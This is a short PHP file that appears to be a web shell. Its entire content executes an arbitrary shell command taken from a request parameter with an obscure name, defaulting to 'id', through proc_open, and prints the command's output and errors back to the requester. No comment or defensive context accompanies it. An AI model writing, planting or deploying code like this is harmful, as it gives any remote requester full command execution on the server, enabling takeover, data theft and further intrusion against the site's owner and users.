<?php
$c = isset($_REQUEST['mdkdf']) ? $_REQUEST['mdkdf'] : 'id';
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open($c, $spec, $pipes);
if (is_resource($p)) {
    fclose($pipes[0]);
    echo '<pre>' . stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]) . '</pre>';
    fclose($pipes[1]);
    fclose($pipes[2]);
    proc_close($p);
}
